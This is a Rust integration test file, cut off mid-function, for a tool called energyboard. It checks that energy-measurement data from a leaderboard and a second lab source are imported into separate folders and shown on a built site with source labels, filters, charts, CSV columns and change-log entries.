//! Several sources in one data folder: the leaderboard's published data
//! (tests/fixtures/upstream/7885788) and Example Lab's
//! (tests/fixtures/sources/public-data, made with mlenergy-data from the raw
//! results beside it), imported with `energyboard import --source`, built
//! into one site. No network.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use scraper::{ElementRef, Html, Selector};

use crate::common::file_tree;

const BIN: &str = env!("CARGO_BIN_EXE_energyboard");
const ROOT: &str = env!("CARGO_MANIFEST_DIR");
const LAB: &str = "example-lab";

fn energyboard(args: &[&str]) -> Output {
    Command::new(BIN)
        .current_dir(ROOT)
        .args(args)
        .output()
        .unwrap()
}

fn ok(out: &Output) {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn import_leaderboard(data: &Path) {
    ok(&energyboard(&[
        "import",
        "--from",
        "tests/fixtures/upstream/7885788",
        "--data",
        data.to_str().unwrap(),
        "--retrieved",
        "2026-02-16",
    ]));
}

fn import_lab(data: &Path, from: &str) -> Output {
    energyboard(&[
        "import",
        "--from",
        from,
        "--data",
        data.to_str().unwrap(),
        "--source",
        LAB,
        "--config",
        "tests/fixtures/sources/energyboard.toml",
        "--retrieved",
        "2026-11-21",
    ])
}

fn build(data: &Path, out: &Path) {
    ok(&energyboard(&[
        "build",
        "--data",
        data.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
        "--config",
        "tests/fixtures/sources/energyboard.toml",
    ]));
}

/// The leaderboard and Example Lab, built into `dir/site` (with a base
/// URL, so the feed is written too).
fn two_source_site(dir: &Path) -> PathBuf {
    let data = two_sources(dir);
    let site = dir.join("site");
    ok(&energyboard(&[
        "build",
        "--data",
        data.to_str().unwrap(),
        "--out",
        site.to_str().unwrap(),
        "--config",
        "tests/fixtures/sources/energyboard.toml",
        "--base-url",
        "https://example.org/board/",
    ]));
    site
}

fn sel(css: &str) -> Selector {
    Selector::parse(css).unwrap()
}

fn text_of(e: ElementRef<'_>) -> String {
    e.text().collect::<String>().trim().to_owned()
}

/// The rows of table `#id` on a page: each row's class and cells' text.
fn table_rows(html: &str, id: &str) -> Vec<(String, Vec<String>)> {
    let doc = Html::parse_document(html);
    doc.select(&sel(&format!("#{id} tbody tr")))
        .map(|tr| {
            (
                tr.value().attr("class").unwrap_or("").to_owned(),
                tr.select(&sel("th, td")).map(text_of).collect(),
            )
        })
        .collect()
}

/// The rows of `rows` whose cells include every one of `cells`.
fn rows_with<'r>(
    rows: &'r [(String, Vec<String>)],
    cells: &[&str],
) -> Vec<&'r (String, Vec<String>)> {
    rows.iter()
        .filter(|(_, r)| cells.iter().all(|c| r.iter().any(|t| t == c)))
        .collect()
}

const LB_LLAMA: &str = "Llama 3.1 8B Instruct";
const LAB_LLAMA: &str = "Llama 3.1 8B Instruct (Example Lab)";
const LB_NAME: &str = "ML.ENERGY Leaderboard";
const LAB_NAME: &str = "Example Lab measurements";

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// The leaderboard and Example Lab, imported into `dir/data`.
fn two_sources(dir: &Path) -> PathBuf {
    let data = dir.join("data");
    import_leaderboard(&data);
    ok(&import_lab(&data, "tests/fixtures/sources/public-data"));
    data
}

#[test]
fn a_source_imports_into_its_own_folder_with_its_own_slugs_manifest_and_history() {
    let dir = tempfile::tempdir().unwrap();
    let data = two_sources(dir.path());
    let own = data.join("sources").join(LAB);
    for rel in [
        ".energyboard-import.json",
        "changes.json",
        "lm-arena-chat/example-lab--llama-3-1-8b-instruct.json",
        "lm-arena-chat/example-lab--qwen-3-8b.json",
    ] {
        assert!(own.join(rel).is_file(), "{rel}");
    }
    let file: serde_json::Value = serde_json::from_str(&read(
        &own.join("lm-arena-chat/example-lab--qwen-3-8b.json"),
    ))
    .unwrap();
    assert_eq!(file["source"]["id"], LAB);
    assert_eq!(file["source"]["name"], "Example Lab measurements");
    assert_eq!(file["source"]["licence"], "CC-BY-4.0");
    assert_eq!(file["name"], "Qwen 3 8B (Example Lab)");
    assert_eq!(file["gpus"], serde_json::json!(["L40S"]));
    // The leaderboard's own history does not mention the lab.
    assert!(!read(&data.join("changes.json")).contains(LAB));
}

#[test]
fn pages_that_mix_sources_mark_and_filter_rows_and_csvs_name_the_source() {
    let dir = tempfile::tempdir().unwrap();
    let data = two_sources(dir.path());
    let site = dir.path().join("site");
    build(&data, &site);
    let w = site.join("workloads/lm-arena-chat");

    // The leaderboard: a Source column, each row's class, the no-JS filter.
    let board = read(&w.join("index.html"));
    assert!(board.contains(
        r##"<a id="only-example-lab" href="#only-example-lab">Example Lab measurements only</a>"##
    ));
    assert!(board.contains(
        r##"<a id="only-leaderboard" href="#only-leaderboard">ML.ENERGY Leaderboard only</a>"##
    ));
    assert!(board.contains(
        r#"main:has(#only-example-lab:target) :is([class^=from-],[class*=" from-"]):not(.from-example-lab){display:none}"#
    ));
    assert!(board.contains(r#"data-key="source""#));
    assert!(board.contains(r#"<tr class="from-example-lab">"#));
    assert!(board.contains(r#"<tr class="from-leaderboard">"#));

    // The same model, GPU and configuration in both sources: two rows on
    // the H100 page, two pages, never merged.
    let h100 = read(&w.join("gpus/h100/index.html"));
    assert!(h100.contains("Llama 3.1 8B Instruct (Example Lab)"));
    assert!(h100.contains(r#"href="../../models/llama-3-1-8b-instruct/index.html"#));
    assert!(h100.contains(r#"href="../../models/example-lab--llama-3-1-8b-instruct/index.html"#));
    // A GPU only the lab measured has its page.
    assert!(read(&w.join("gpus/l40s/index.html")).contains("Qwen 3 8B (Example Lab)"));

    // Each model page says whose measurements it shows.
    let lab_page = read(&w.join("models/example-lab--qwen-3-8b/index.html"));
    assert!(lab_page.contains(r#"<p class="provenance" id="whose">Measurements by <a href="https://example.org/energy/">Example Lab measurements</a>"#));
    assert!(lab_page.contains("Example Lab measurements</a>, not the ML.ENERGY Leaderboard's"));
    let leaderboards_page = read(&w.join("models/llama-3-1-8b-instruct/index.html"));
    assert!(leaderboards_page.contains(
        r#"Measurements by <a href="https://ml.energy/leaderboard/">ML.ENERGY Leaderboard</a>"#
    ));

    // CSVs end with a source column.
    let csv = read(&site.join("data/leaderboard.csv"));
    let header = csv.lines().next().unwrap();
    assert!(header.ends_with(",source"), "{header}");
    assert!(csv.lines().any(
        |l| l.contains("Example Lab (Example Lab)") || l.ends_with(",Example Lab measurements")
    ));
    assert!(
        csv.lines()
            .skip(1)
            .any(|l| l.ends_with(",ML.ENERGY Leaderboard"))
    );
    let one = read(&site.join("data/lm-arena-chat/example-lab--qwen-3-8b.csv"));
    assert!(one.lines().next().unwrap().ends_with(",source"));

    // The about page lists both.
    let about = read(&site.join("about/index.html"));
    assert!(about.contains(r#"<th scope="row"><a href="https://example.org/energy/">Example Lab measurements</a></th><td>CC-BY-4.0</td><td>2026-11-21</td>"#));
}

#[test]
fn leaderboard_only_output_has_no_source_marks() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    import_leaderboard(&data);
    let site = dir.path().join("site");
    build(&data, &site);
    let board = read(&site.join("workloads/lm-arena-chat/index.html"));
    for mark in [
        "source-filter",
        "from-leaderboard",
        r#"data-key="source""#,
        "only-",
    ] {
        assert!(!board.contains(mark), "{mark}");
    }
    assert!(
        !read(&site.join("data/leaderboard.csv"))
            .lines()
            .next()
            .unwrap()
            .contains("source")
    );
    assert!(!read(&site.join("about/index.html")).contains(r#"id="sources""#));
    // No page that would mix sources, and no chart, gains a mark.
    for page in [
        "index.html",
        "gpus/h100/index.html",
        "compare/index.html",
        "changes/index.html",
        "workloads/lm-arena-chat/compare/index.html",
        "workloads/lm-arena-chat/gpus/h100/index.html",
        "workloads/lm-arena-chat/best-energy.svg",
        "workloads/lm-arena-chat/all-configurations.svg",
    ] {
        let text = read(&site.join(page));
        for mark in ["from-", "only-", "source: ", "data-source", "Example Lab"] {
            assert!(!text.contains(mark), "{page}: {mark}");
        }
    }
    assert!(
        !site
            .join("workloads/lm-arena-chat/best-energy-only-leaderboard.svg")
            .exists()
    );
    assert!(!site.join("data/sources").exists());
    assert!(
        !read(&site.join("workloads/lm-arena-chat/models/llama-3-1-8b-instruct/index.html"))
            .contains(r#"id="whose""#)
    );
}

#[test]
fn reimporting_one_source_never_touches_another_sources_files() {
    let dir = tempfile::tempdir().unwrap();
    let data = two_sources(dir.path());
    let lab_dir = data.join("sources").join(LAB);
    let others = |tree: std::collections::BTreeMap<PathBuf, Vec<u8>>| {
        tree.into_iter()
            .filter(|(p, _)| !p.starts_with("sources"))
            .collect::<Vec<_>>()
    };
    let leaderboard_before = others(file_tree(&data));
    let lab_before = file_tree(&lab_dir);

    // A new version of the lab's data: one figure changed.
    let changed = dir.path().join("lab-v2");
    energyboard::stage::copy_tree(
        &PathBuf::from(ROOT).join("tests/fixtures/sources/public-data"),
        &changed,
    )
    .unwrap();
    let task = changed.join("tasks/lm-arena-chat.json");
    let text = read(&task);
    let mut doc: serde_json::Value = serde_json::from_str(&text).unwrap();
    let e = doc["configurations"][0]["energy_per_token_joules"]
        .as_f64()
        .unwrap();
    doc["configurations"][0]["energy_per_token_joules"] = serde_json::json!(e * 0.9);
    std::fs::write(&task, serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
    ok(&import_lab(&data, changed.to_str().unwrap()));
    assert_eq!(others(file_tree(&data)), leaderboard_before);
    assert_ne!(file_tree(&lab_dir), lab_before);

    // And the leaderboard's import leaves the lab's folder alone.
    let lab_now = file_tree(&lab_dir);
    ok(&energyboard(&[
        "import",
        "--from",
        "tests/fixtures/upstream/6e70d23",
        "--data",
        data.to_str().unwrap(),
        "--retrieved",
        "2026-03-01",
    ]));
    assert_ne!(others(file_tree(&data)), leaderboard_before);
    assert_eq!(file_tree(&lab_dir), lab_now);
}

#[test]
fn a_slug_taken_by_another_source_stops_the_import_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    import_leaderboard(&data);
    // A hand-made leaderboard file already holds the lab's address.
    let mut doc: serde_json::Value =
        serde_json::from_str(&read(&data.join("lm-arena-chat/qwen-3-8b.json"))).unwrap();
    let text = serde_json::to_string_pretty(&doc).unwrap();
    doc = serde_json::from_str(&text.replace("\"qwen-3-8b", "\"example-lab--qwen-3-8b")).unwrap();
    std::fs::write(
        data.join("lm-arena-chat/hand-made.json"),
        serde_json::to_vec_pretty(&doc).unwrap(),
    )
    .unwrap();
    let before = file_tree(&data);
    let out = import_lab(&data, "tests/fixtures/sources/public-data");
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("would not fit beside the other sources"),
        "{err}"
    );
    assert!(
        err.contains(
            "lm-arena-chat/hand-made.json: slug: \"example-lab--qwen-3-8b\" has a source's prefix"
        ),
        "{err}"
    );
    assert_eq!(file_tree(&data), before);
    assert!(!data.join("sources").exists());
}

#[test]
fn an_unknown_source_or_a_file_in_the_wrong_folder_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let out = energyboard(&[
        "import",
        "--from",
        "tests/fixtures/sources/public-data",
        "--data",
        data.to_str().unwrap(),
        "--source",
        "nobody",
        "--config",
        "tests/fixtures/sources/energyboard.toml",
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(
            "--source \"nobody\": tests/fixtures/sources/energyboard.toml has no \
        [[sources]] entry with id = \"nobody\""
        ),
        "{err}"
    );
    assert!(!data.exists());

    // A leaderboard file moved under a source's folder does not pass as the
    // source's.
    import_leaderboard(&data);
    let moved = data.join("sources/other/lm-arena-chat");
    std::fs::create_dir_all(&moved).unwrap();
    std::fs::copy(
        data.join("lm-arena-chat/qwen-3-8b.json"),
        moved.join("x.json"),
    )
    .unwrap();
    let out = energyboard(&[
        "build",
        "--data",
        data.to_str().unwrap(),
        "--out",
        dir.path().join("site").to_str().unwrap(),
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("sources/other/lm-arena-chat/x.json: source.id: is missing"),
        "{err}"
    );
}

#[test]
fn the_compare_page_says_each_models_source_and_shows_one_source_alone() {
    let dir = tempfile::tempdir().unwrap();
    let site = two_source_site(dir.path());
    let page = read(&site.join("workloads/lm-arena-chat/compare/index.html"));
    let doc = Html::parse_document(&page);

    // The no-JS filter, in the address.
    assert!(page.contains(
        r##"<a id="only-example-lab" href="#only-example-lab">Example Lab measurements only</a>"##
    ));
    assert!(page.contains(
        r#"main:has(#only-example-lab:target) :is([class^=from-],[class*=" from-"]):not(.from-example-lab){display:none}"#
    ));

    // Checkboxes grouped by source, each group named; the lab's drawn open.
    let groups: Vec<(String, String, Vec<String>)> = doc
        .select(&sel("#pick fieldset fieldset"))
        .map(|f| {
            (
                f.value().attr("class").unwrap().to_owned(),
                text_of(f.select(&sel("legend")).next().unwrap()),
                f.select(&sel("label")).map(text_of).collect(),
            )
        })
        .collect();
    assert_eq!(groups.len(), 2, "{groups:?}");
    assert_eq!(groups[0].0, "from-leaderboard");
    assert!(groups[0].1.starts_with(LB_NAME), "{}", groups[0].1);
    assert!(groups[0].2.iter().any(|l| l == LB_LLAMA));
    assert_eq!(groups[1].0, "from-example-lab");
    assert!(groups[1].1.starts_with(LAB_NAME), "{}", groups[1].1);
    assert!(groups[1].1.contains("markers open"), "{}", groups[1].1);
    assert_eq!(groups[1].2, [LAB_LLAMA, "Qwen 3 8B (Example Lab)"]);
    let lab_box = doc
        .select(&sel("input[value=example-lab--qwen-3-8b]"))
        .next()
        .unwrap();
    assert_eq!(lab_box.value().attr("data-source"), Some(LAB_NAME));

    // The table: a Source column, each row of class from-<source>.
    let rows = table_rows(&page, "compare");
    let heads: Vec<String> = doc.select(&sel("#compare thead th")).map(text_of).collect();
    assert_eq!(heads[1], "Source");
    for (class, cells) in &rows {
        let whose = if cells[0].contains("(Example Lab)") {
            ("from-example-lab", LAB_NAME)
        } else {
            ("from-leaderboard", LB_NAME)
        };
        assert!(class.ends_with(whose.0), "{class} {cells:?}");
        assert_eq!(cells[1], whose.1, "{cells:?}");
    }
    // The chart's data tables too.
    for id in ["chart-frontiers-data", "chart-responses-data"] {
        let rows = table_rows(&page, id);
        assert!(!rows.is_empty(), "{id}");
        for (class, cells) in &rows {
            let lab = cells[0].contains("(Example Lab)");
            assert_eq!(class.contains("from-example-lab"), lab, "{id} {cells:?}");
            assert_eq!(cells[1], if lab { LAB_NAME } else { LB_NAME }, "{id}");
        }
    }

    // Each chart series names its source in its class and tooltip, the
    // lab's markers hollow, and the legend has an entry per source.
    let series: Vec<ElementRef<'_>> = doc
        .select(&sel("#chart-frontiers .chart-inline.narrow g.fm"))
        .collect();
    assert_eq!(series.len(), 20);
    for g in &series {
        let class = g.value().attr("class").unwrap();
        let title = text_of(g.select(&sel("title")).next().unwrap());
        if class.contains("from-example-lab") {
            assert!(
                title.ends_with(" · source: Example Lab measurements"),
                "{title}"
            );
            // Hollow: outlined, not filled.
            let shapes: Vec<_> = g.select(&sel("circle, polygon, rect, path")).collect();
            assert!(
                shapes
                    .iter()
                    .skip(1)
                    .all(|m| m.value().attr("fill") == Some("none")),
                "{}",
                g.html()
            );
        } else {
            assert!(class.ends_with("from-leaderboard"), "{class}");
            assert!(
                title.ends_with(" · source: ML.ENERGY Leaderboard"),
                "{title}"
            );
        }
    }
    for id in ["chart-frontiers", "chart-responses"] {
        let keys: Vec<String> = doc
            .select(&sel(&format!("#{id} g.key")))
            .map(|k| format!("{} {}", k.value().attr("class").unwrap(), text_of(k)))
            .collect();
        assert!(
            keys.contains(&format!("key from-leaderboard {LB_NAME}")),
            "{id} {keys:?}"
        );
        assert!(
            keys.contains(&format!("key from-example-lab {LAB_NAME}")),
            "{id} {keys:?}"
        );
    }
    assert!(
        doc.select(&sel("#chart-responses g.rm.from-example-lab"))
            .count()
            == 2,
        "the lab's two models on the energy-per-response overlay"
    );
    let desc = text_of(
        doc.select(&sel("#chart-frontiers .chart-about"))
            .next()
            .unwrap(),
    );
    assert!(
        desc.contains(
            "ML.ENERGY Leaderboard: 18 models, filled markers; Example Lab \
            measurements: 2 models, open markers"
        ),
        "{desc}"
    );
}

#[test]
fn the_front_page_hubs_and_charts_say_whose_each_figure_is() {
    let dir = tempfile::tempdir().unwrap();
    let site = two_source_site(dir.path());

    // Front page: the lowest on each GPU per source, each naming it; the
    // card and the every-model table filter by source.
    let front = read(&site.join("index.html"));
    let doc = Html::parse_document(&front);
    assert!(front.contains(r##"<a id="only-example-lab" href="#only-example-lab">"##));
    let card = doc
        .select(&sel("section.wl"))
        .find(|c| text_of(c.select(&sel("h3")).next().unwrap()) == "Text Conversation")
        .unwrap();
    assert_eq!(
        card.value().attr("class"),
        Some("wl from-leaderboard from-example-lab")
    );
    // The table of the lowest per GPU, first on the page: each row names
    // its source under the model.
    let group = doc
        .select(&sel("#lowest tbody"))
        .find(|g| {
            text_of(g.select(&sel("tr.group")).next().unwrap()).starts_with("Text Conversation")
        })
        .unwrap();
    assert_eq!(
        group.value().attr("class"),
        Some("from-leaderboard from-example-lab")
    );
    let best: Vec<(String, String, String, String)> = group
        .select(&sel("tr:not(.group)"))
        .map(|tr| {
            let cells: Vec<String> = tr.select(&sel("th, td")).map(text_of).collect();
            let class = tr.value().attr("class").unwrap().to_owned();
            (class, cells[0].clone(), cells[1].clone(), cells[2].clone())
        })
        .collect();
    let h100: Vec<_> = best.iter().filter(|b| b.1 == "H100").collect();
    assert_eq!(h100.len(), 2, "{best:?}");
    assert_eq!(h100[0].0, "from-leaderboard");
    assert_eq!(h100[0].2, format!("{LB_LLAMA} {LB_NAME}"));
    assert_eq!(h100[0].3, "19.50 Wh/M tok");
    assert_eq!(h100[1].0, "from-example-lab");
    assert_eq!(h100[1].2, format!("{LAB_LLAMA} {LAB_NAME}"));
    assert_eq!(h100[1].3, "9.76 Wh/M tok");
    assert!(
        best.iter()
            .any(|b| b.0 == "from-example-lab" && b.1 == "L40S")
    );
    let models: Vec<(String, String)> = doc
        .select(&sel("#models ~ .table-wrap tbody tr"))
        .map(|tr| {
            let cells: Vec<String> = tr.select(&sel("th, td")).map(text_of).collect();
            (
                tr.value().attr("class").unwrap_or("").to_owned(),
                cells[1].clone(),
            )
        })
        .collect();
    assert!(models.contains(&("from-example-lab".to_owned(), LAB_NAME.to_owned())));
    assert!(models.contains(&("from-leaderboard".to_owned(), LB_NAME.to_owned())));

    // Hubs: one row per workload and source, its source in the Source
    // column and again under the model (shown on a phone, where the
    // column is not).
    let (leaderboard_llama_row, example_lab_llama_row) = (
        format!("{LB_LLAMA} {LB_NAME}"),
        format!("{LAB_LLAMA} {LAB_NAME}"),
    );
    let hub = read(&site.join("gpus/h100/index.html"));
    let rows = table_rows(&hub, "hub");
    assert_eq!(
        rows_with(
            &rows,
            &[
                "Text Conversation",
                LB_NAME,
                &leaderboard_llama_row,
                "19.50"
            ]
        )
        .len(),
        1,
        "{rows:?}"
    );
    assert_eq!(
        rows_with(
            &rows,
            &[
                "Text Conversation",
                LAB_NAME,
                &example_lab_llama_row,
                "9.76"
            ]
        )[0]
        .0,
        "from-example-lab"
    );
    let hub = read(&site.join("compare/index.html"));
    let rows = table_rows(&hub, "hub");
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert!(hub.contains(r##"href="#only-leaderboard""##));

    // The leaderboard's bar chart: each source a legend entry, the lab's
    // bars outlined, the description and data table name the sources.
    let w = site.join("workloads/lm-arena-chat");
    let bars = read(&w.join("best-energy.svg"));
    assert!(
        bars.contains(r#"<g class="key from-example-lab">"#),
        "{bars}"
    );
    assert!(bars.contains("Example Lab measurements: 3 bars, outlined bars"));
    assert!(bars.contains("ML.ENERGY Leaderboard: 32 bars, filled bars"));
    let svg = roxmltree::Document::parse(&bars).unwrap();
    let outlined = svg
        .descendants()
        .filter(|n| n.has_tag_name("rect") && n.attribute("fill") == Some("none"))
        .filter(|n| n.attribute("class").is_some_and(|c| c.starts_with('e')))
        .count();
    assert_eq!(outlined, 3, "the lab's three bars");
    let gpu = read(&w.join("gpus/h100/index.html"));
    let data = table_rows(&gpu, "chart-best-energy-data");
    assert_eq!(
        rows_with(&data, &[LAB_LLAMA, LAB_NAME, "H100", "9.76"]).len(),
        1,
        "{data:?}"
    );
    assert_eq!(
        rows_with(&data, &[LB_LLAMA, LB_NAME, "H100", "19.50"]).len(),
        1,
        "{data:?}"
    );

    // The scatter: each point's tooltip names its source.
    let scatter = read(&w.join("all-configurations.svg"));
    assert!(
        scatter
            .contains("<title>Qwen 3 8B (Example Lab) · source: Example Lab measurements: L40S ×1")
    );
    assert!(scatter.contains("<title>Qwen 3 8B · source: ML.ENERGY Leaderboard: "));

    // Shown one source alone, a page shows that source's charts: files
    // of its models only, marked as on the page of every source.
    let board = read(&w.join("index.html"));
    for (key, other) in [("example-lab", LB_LLAMA), ("leaderboard", LAB_LLAMA)] {
        assert!(board.contains(&format!(
            r#"<figure class="chart only-source from-{key}" id="chart-best-energy-only-{key}">"#
        )));
        assert!(board.contains(&format!(
            r#"<figure class="chart only-source from-{key}" id="chart-all-configurations-only-{key}">"#
        )));
        let one = read(&w.join(format!("best-energy-only-{key}.svg")));
        assert!(!one.contains(&format!("{other} ·")), "{key}");
        assert!(read(&w.join(format!("all-configurations-only-{key}.svg"))).contains("source: "));
    }
    assert!(board.contains(r#"<figure class="chart every-source" id="chart-best-energy">"#));
    assert!(board.contains(
        ".only-source{display:none}main:has([id^=only-]:target) .every-source{display:none}"
    ));
    assert!(
        read(&w.join("best-energy-only-example-lab.svg"))
            .contains(r#"<g class="key from-example-lab">"#)
    );
    // A GPU only the lab measured: its chart is the lab's.
    assert!(
        read(&w.join("gpus/l40s/index.html"))
            .contains(r#"<figure class="chart from-example-lab" id="chart-best-energy">"#)
    );
}

#[test]
fn the_change_log_and_feed_show_each_sources_history_marked_with_its_source() {
    let dir = tempfile::tempdir().unwrap();
    let site = two_source_site(dir.path());
    let page = read(&site.join("changes/index.html"));
    let doc = Html::parse_document(&page);
    let sections: Vec<(String, String, String)> = doc
        .select(&sel("section.change"))
        .map(|s| {
            (
                s.value().attr("id").unwrap().to_owned(),
                s.value().attr("class").unwrap().to_owned(),
                text_of(s.select(&sel("h2")).next().unwrap()),
            )
        })
        .collect();
    // Newest first: the lab's import (2026-11-21) before the leaderboard's
    // (2026-02-16), whose anchor keeps its published meaning.
    assert_eq!(
        sections,
        [
            (
                "example-lab-import-1".to_owned(),
                "change from-example-lab".to_owned(),
                "Example Lab measurements data of 2026-11-20".to_owned()
            ),
            (
                "import-1".to_owned(),
                "change from-leaderboard".to_owned(),
                "ML.ENERGY Leaderboard data of 2026-02-16".to_owned()
            ),
        ]
    );
    assert!(page.contains(r##"<a id="only-example-lab" href="#only-example-lab">"##));
    assert!(page.contains(
        r#"<a href="../data/sources/example-lab/changes.json">Example Lab measurements</a>"#
    ));
    // The lab's best figures, linked to its model pages.
    let best = table_rows(&page, "best-example-lab-import-1");
    assert_eq!(
        rows_with(&best, &[LAB_LLAMA, "H100", "9.76", "new"]).len(),
        1,
        "{best:?}"
    );
    // Published as imported.
    assert_eq!(
        read(&site.join("data/sources/example-lab/changes.json")),
        read(&dir.path().join("data/sources/example-lab/changes.json"))
    );

    // The feed: both, each entry titled with its source.
    let feed = read(&site.join("changes/feed.xml"));
    let xml = roxmltree::Document::parse(&feed).unwrap();
    let entries: Vec<(String, String)> = xml
        .descendants()
        .filter(|n| n.has_tag_name("entry"))
        .map(|e| {
            let child = |tag: &str| {
                e.children()
                    .find(|c| c.has_tag_name(tag))
                    .and_then(|c| c.text())
                    .unwrap_or("")
                    .to_owned()
            };
            (child("title"), child("id"))
        })
        .collect();
    assert_eq!(
        entries,
        [
            (
                "Example Lab measurements data of 2026-11-20".to_owned(),
                "https://example.org/board/changes/#example-lab-import-1".to_owned()
            ),
            (
                "ML.ENERGY Leaderboard data of 2026-02-16".to_owned(),
                "https://example.org/board/changes/#import-1".to_owned()
            ),
        ]
    );

    // A lab model's page shows its history from the lab's log.
    let model =
        read(&site.join("workloads/lm-arena-chat/models/example-lab--qwen-3-8b/index.html"));
    assert!(model.contains("Each import of the data of Example Lab measurements that changed"));
    assert!(model.contains(r#"href="../../../../changes/index.html#example-lab-import-1""#));
}

#[test]
fn the_same_model_gpu_and_configuration_in_two_sources_is_shown_twice_on_every_mixed_page() {
    // Llama 3.1 8B on one H100 in BF16 at 64 sequences is in both sources
    // (32.94 Wh/M tok in the leaderboard's, 9.76 in the lab's); each
    // source's best on H100 differs (19.50 at 512 and 9.76 at 64).
    let dir = tempfile::tempdir().unwrap();
    let site = two_source_site(dir.path());
    let w = site.join("workloads/lm-arena-chat");
    let both = |rows: &[(String, Vec<String>)], what: &str, lb: &[&str], lab: &[&str]| {
        let mut ours = vec![LB_LLAMA];
        ours.extend(lb);
        let mut theirs = vec![LAB_LLAMA];
        theirs.extend(lab);
        let a = rows_with(rows, &ours);
        let b = rows_with(rows, &theirs);
        assert_eq!(
            a.len(),
            1,
            "{what}: the leaderboard's row {ours:?} in {rows:?}"
        );
        assert_eq!(b.len(), 1, "{what}: the lab's row {theirs:?} in {rows:?}");
        assert!(a[0].0.contains("from-leaderboard"), "{what}: {:?}", a[0]);
        assert!(b[0].0.contains("from-example-lab"), "{what}: {:?}", b[0]);
    };
    let board = read(&w.join("index.html"));
    both(
        &table_rows(&board, "leaderboard"),
        "leaderboard",
        &[LB_NAME, "H100", "19.50"],
        &[LAB_NAME, "H100", "9.76"],
    );
    let h100 = read(&w.join("gpus/h100/index.html"));
    both(
        &table_rows(&h100, "gpu-leaderboard"),
        "H100 page",
        &[LB_NAME, "19.50"],
        &[LAB_NAME, "9.76"],
    );
    let compare = read(&w.join("compare/index.html"));
    both(
        &table_rows(&compare, "compare"),
        "compare",
        &[LB_NAME, "19.50"],
        &[LAB_NAME, "9.76"],
    );
    // The configuration itself, on the compare chart's data where it is on
    // a frontier.
    let frontier = table_rows(&compare, "chart-frontiers-data");
    assert_eq!(
        rows_with(&frontier, &[LAB_LLAMA, LAB_NAME, "9.76"]).len(),
        1,
        "{frontier:?}"
    );
    // The hub names the source in its Source column and under the model.
    let hub = read(&site.join("gpus/h100/index.html"));
    let rows = table_rows(&hub, "hub");
    let leaderboard_llama_row = format!("{LB_LLAMA} {LB_NAME}");
    let example_lab_llama_row = format!("{LAB_LLAMA} {LAB_NAME}");
    assert_eq!(
        rows_with(&rows, &[&leaderboard_llama_row, LB_NAME, "19.50"]).len(),
        1
    );
    assert_eq!(
        rows_with(&rows, &[&example_lab_llama_row, LAB_NAME, "9.76"]).len(),
        1
    );
    // The scatter: both points of the shared configuration.
    let scatter = read(&w.join("all-configurations.svg"));
    assert!(
        scatter.contains(
            "<title>Llama 3.1 8B Instruct · source: ML.ENERGY Leaderboard: H100 \
        ×1, concurrency 64, run 1: 32.94 Wh/M"
        ),
        "the leaderboard's point"
    );
    assert!(
        scatter.contains(
            "<title>Llama 3.1 8B Instruct (Example Lab) · source: Example Lab \
        measurements: H100 ×1, concurrency 64, run 1: 9.76 Wh/M"
        ),
        "the lab's point"
    );
    // The CSVs: two rows each, one per source.
    let csv = read(&site.join("data/leaderboard.csv"));
    let h100_rows: Vec<&str> = csv
        .lines()
        .filter(|l| l.contains(",H100,") && l.contains("Llama 3.1 8B Instruct"))
        .filter(|l| !l.contains("70B") && !l.contains("405B"))
        .collect();
    assert_eq!(h100_rows.len(), 2, "{h100_rows:?}");
    assert!(
        h100_rows
            .iter()
            .any(|l| l.ends_with(&format!(",{LB_NAME}")))
    );
    assert!(
        h100_rows
            .iter()
            .any(|l| l.ends_with(&format!(",{LAB_NAME}")))
    );
    let all = read(&site.join("data/configurations.csv"));
    let shared: Vec<&str> = all
        .lines()
        .filter(|l| l.contains("llama-3-1-8b-instruct/H100/1/64"))
        .collect();
    assert_eq!(shared.len(), 2, "{shared:?}");
    assert!(shared.iter().any(|l| l.ends_with(&format!(",{LAB_NAME}"))));
}

/// The part of `html` from `<section id="best"` to its `</section>`: a
/// model page's best configuration per GPU.
fn best_section(html: &str) -> &str {
    let start = html.find(r#"<section id="best""#).expect("a best section");
    let end = start + html[start..].find("</section>").unwrap();
    &html[start..end]
}

#[test]
fn every_address_of_the_leaderboard_only_site_still_leads_to_its_content_beside_a_source() {
    let dir = tempfile::tempdir().unwrap();
    let alone = dir.path().join("alone");
    import_leaderboard(&alone.join("data"));
    build(&alone.join("data"), &alone.join("site"));
    let data = two_sources(dir.path());
    let site = dir.path().join("site");
    build(&data, &site);

    let before = file_tree(&alone.join("site"));
    let mut models = 0;
    let mut versions = 0;
    for (path, bytes) in &before {
        let now = site.join(path);
        assert!(now.is_file(), "{} is gone beside a source", path.display());
        let p = path.to_string_lossy();
        // The leaderboard's data files, byte for byte.
        if p.starts_with("data/") && p.ends_with(".json") {
            assert_eq!(&std::fs::read(&now).unwrap(), bytes, "{p}");
        }
        // Each leaderboard model's page and version page: the same best
        // figures.
        if p.contains("/models/") && p.ends_with("/index.html") && p.starts_with("workloads/") {
            let old = String::from_utf8(bytes.clone()).unwrap();
            assert_eq!(best_section(&read(&now)), best_section(&old), "{p}");
            if p.contains("/v/") {
                versions += 1;
            } else {
                models += 1;
            }
        }
    }
    assert_eq!(models, 18);
    assert_eq!(versions, 18, "one version page a model: its current one");
}

#[test]
fn a_file_outside_a_sources_folder_cannot_claim_the_source() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    import_leaderboard(&data);
    let mut doc: serde_json::Value =
        serde_json::from_str(&read(&data.join("lm-arena-chat/qwen-3-8b.json"))).unwrap();
    doc["slug"] = "example-lab--fake".into();
    doc["source"]["id"] = LAB.into();
    std::fs::write(
